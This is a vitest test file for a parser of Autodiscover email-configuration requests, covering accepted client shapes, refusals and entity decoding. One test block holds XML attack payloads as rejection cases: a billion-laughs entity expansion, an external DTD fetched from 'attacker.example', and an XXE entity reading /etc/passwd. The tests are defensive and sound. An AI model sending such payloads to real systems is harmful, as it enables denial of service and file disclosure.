import { describe, expect, it } from 'vitest'
import { decodeXmlReferences, parseAutodiscoverRequest, type AutodiscoverRequest } from '../../../src/protocols/autodiscover/request'
import mobilesyncBody from './fixtures/ios-mobilesync-request.xml?raw'
import outlookBody from './fixtures/outlook-autodiscover-request.xml?raw'
import thunderbirdBody from './fixtures/thunderbird-autodiscover-request.xml?raw'

const OUTLOOK_REQUEST_NS = 'http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006'
const OUTLOOK_2006A = 'http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a'
const MOBILESYNC = 'http://schemas.microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006'

function body(fields: string, root = `<Autodiscover xmlns="${OUTLOOK_REQUEST_NS}">`, close = '</Autodiscover>') {
  return `<?xml version="1.0" encoding="utf-8"?>${root}<Request>${fields}</Request>${close}`
}
const email = (address: string) => `<EMailAddress>${address}</EMailAddress>`
const schema = (ns: string) => `<AcceptableResponseSchema>${ns}</AcceptableResponseSchema>`

function accepted(text: string): AutodiscoverRequest {
  const result = parseAutodiscoverRequest(text)
  if (!result.ok) throw new Error(`refused: ${result.error.message}`)
  return result.value
}
function refused(text: string) {
  const result = parseAutodiscoverRequest(text)
  if (result.ok) throw new Error(`accepted: ${JSON.stringify(result.value)}`)
  return result.error
}

describe('parseAutodiscoverRequest', () => {
  // §2.2 (POX request) and §2.8 (mobilesync request): the real client shapes.
  it.each([
    ['Thunderbird', thunderbirdBody, 'outlook-2006a'],
    ['Outlook', outlookBody, 'outlook-2006a'],
    ['iOS mobilesync', mobilesyncBody, 'mobilesync'],
  ])('reads the %s request', (_client, text, expected) => {
    expect(accepted(text)).toEqual({ emailAddress: 'alice@example.com', schema: expected })
  })

  // §2.2: match by local name, any prefix, both spellings.
  it.each([
    ['https:// response schema', body(email('a@example.com') + schema(OUTLOOK_2006A.replace('http:', 'https:'))), 'outlook-2006a'],
    ['https:// mobilesync schema', body(email('a@example.com') + schema(MOBILESYNC.replace('http:', 'https:'))), 'mobilesync'],
    ['https:// request namespace', body(email('a@example.com') + schema(OUTLOOK_2006A), `<Autodiscover xmlns="${OUTLOOK_REQUEST_NS.replace('http:', 'https:')}">`), 'outlook-2006a'],
    ['the 2006 (not 2006a) schema', body(email('a@example.com') + schema(OUTLOOK_2006A.slice(0, -1))), 'outlook-2006'],
    ['a trailing slash and padding', body(email(' a@example.com ') + schema(` ${MOBILESYNC}/ `)), 'mobilesync'],
    [
      'namespace prefixes',
      `<a:Autodiscover xmlns:a="${OUTLOOK_REQUEST_NS}"><a:Request><a:EMailAddress>a@example.com</a:EMailAddress><a:AcceptableResponseSchema>${OUTLOOK_2006A}</a:AcceptableResponseSchema></a:Request></a:Autodiscover>`,
      'outlook-2006a',
    ],
    ['other letter case in element names', `<autodiscover><request><emailaddress>a@example.com</emailaddress><acceptableresponseschema>${MOBILESYNC}</acceptableresponseschema></request></autodiscover>`, 'mobilesync'],
    ['no schema at all (Outlook assumed)', body(email('a@example.com')), 'outlook-2006a'],
    ['unknown sibling elements', body(`<Extra>1</Extra>${email('a@example.com')}<More/>${schema(OUTLOOK_2006A)}`), 'outlook-2006a'],
  ])('accepts %s', (_case, text, expected) => {
    expect(accepted(text)).toEqual({ emailAddress: 'a@example.com', schema: expected })
  })

  it('decodes the predefined entities and character references in the address', () => {
    expect(accepted(body(email('tom&amp;jerry&#43;x&#x40;example.com'))).emailAddress).toBe('tom&jerry+x@example.com')
  })

  // §2.2: Thunderbird does not escape the address it puts into the body.
  it.each([
    ['an unescaped &', 'tom&jerry@example.com'],
    ['an unescaped <', 'tom<jerry@example.com'],
  ])('falls back to the EMailAddress text when %s breaks the XML', (_case, address) => {
    const text = thunderbirdBody.replace('alice@example.com', address)
    expect(accepted(text)).toEqual({ emailAddress: address, schema: 'outlook-2006a' })
  })

  it('reads the schema in the fallback too', () => {
    const text = mobilesyncBody.replace('alice@example.com', 'tom&jerry@example.com')
    expect(accepted(text)).toEqual({ emailAddress: 'tom&jerry@example.com', schema: 'mobilesync' })
  })

  // §2.1: MS-OXDSCLI prefers LegacyDN, but only an address can be resolved here.
  it('uses EMailAddress when LegacyDN is present too', () => {
    expect(accepted(body(`<LegacyDN>/o=Org/cn=alice</LegacyDN>${email('a@example.com')}`)).emailAddress).toBe('a@example.com')
  })

  it.each([
    ['LegacyDN only', body('<LegacyDN>/o=Org/cn=alice</LegacyDN>'), 'LegacyDN requests are not supported'],
    ['LegacyDN only, malformed', '<Autodiscover><Request><LegacyDN>/o=A&B</LegacyDN></Request>', 'LegacyDN requests are not supported'],
    ['an empty body', '  \r\n', 'empty'],
    ['not XML', 'hello world', 'not well-formed XML'],
    ['broken XML without an address', '<Autodiscover><Request><Foo></Request>', 'not well-formed XML'],
    ['XML that is no Autodiscover request', '<Other><Request/></Other>', 'expected an Autodiscover element'],
    ['no EMailAddress', body(schema(OUTLOOK_2006A)), 'has no EMailAddress'],
    ['an empty EMailAddress', body(`<EMailAddress> </EMailAddress>${schema(OUTLOOK_2006A)}`), 'has no EMailAddress'],
  ])('refuses %s as invalid (ErrorCode 600)', (_case, text, message) => {
    expect(refused(text)).toEqual({ kind: 'invalid', message: expect.stringContaining(message) })
  })

  // §2.5: a schema this service does not produce is ErrorCode 601.
  it.each([
    ['an Exchange-only schema', 'http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006b'],
    ['a made-up schema', 'urn:example:nothing'],
  ])('refuses %s as unsupported (ErrorCode 601)', (_case, ns) => {
    expect(refused(body(email('a@example.com') + schema(ns)))).toEqual({ kind: 'unsupported-schema', message: expect.stringContaining(ns) })
  })

  it('cuts long echoed input short', () => {
    const { message } = refused(body(email('a@example.com') + schema(`urn:${'x'.repeat(5000)}`)))
    expect(message.length).toBeLessThan(250)
  })

  // §2.2 and the issue: never expand entities or fetch DTDs; such bodies are refused unread.
  it.each([
    [
      'an entity-expansion attack',
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><Autodiscover><Request><EMailAddress>&lol3;@example.com</EMailAddress></Request></Autodiscover>`,
    ],
    ['an external DTD', `<?xml version="1.0"?><!DOCTYPE Autodiscover SYSTEM "http://attacker.example/evil.dtd"><Autodiscover><Request>${email('a@example.com')}</Request></Autodiscover>`],
    ['an external entity', `<?xml version="1.0"?><!doctype x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Autodiscover><Request>${email('&xxe;@example.com')}</Request></Autodiscover>`],
    ['a stray entity declaration', `<Autodiscover><!ENTITY a "b"><Request>${email('a@example.com')}</Request></Autodiscover>`],
  ])('refuses %s without expanding it', (_case, text) => {
    expect(refused(text)).toEqual({ kind: 'invalid', message: 'document type and entity declarations are not accepted' })
  })

  it('leaves an undeclared entity reference as text, unexpanded', () => {
    expect(accepted(body(email('&xxe;@example.com'))).emailAddress).toBe('&xxe;@example.com')
  })

  // Found by the fuzz suite (test/app/fuzz.test.ts): the parser throws past its nesting limit.
  it('answers a well-formed body nested beyond the parser limit as invalid instead of throwing', () => {
    const deep = `<Autodiscover>${'<a>'.repeat(5_000)}x${'</a>'.repeat(5_000)}</Autodiscover>`
    expect(refused(deep)).toEqual({ kind: 'invalid', message: 'the request body cannot be read: Maximum nested tags exceeded' })
    const withAddress = `${'<a>'.repeat(5_000)}<EMailAddress>z@example.com</EMailAddress>${'</a>'.repeat(5_000)}`
    expect(accepted(withAddress).emailAddress).toBe('z@example.com')
  })
})

describe('decodeXmlReferences', () => {
  it.each([
    ['&amp;&lt;&gt;&quot;&apos;', `&<>"'`],
    ['&#65;&#x42;&#X43;', 'ABC'],
    ['&AMP;', '&'],
    ['&nbsp; &unknown; & alone', '&nbsp; &unknown; & alone'],
    ['&#0; &#xD800; &#x110000;', '&#0; &#xD800; &#x110000;'],
    ['&amp;lt;', '&lt;'],
  ])('%s → %s', (input, expected) => {
    expect(decodeXmlReferences(input)).toBe(expected)
  })
})
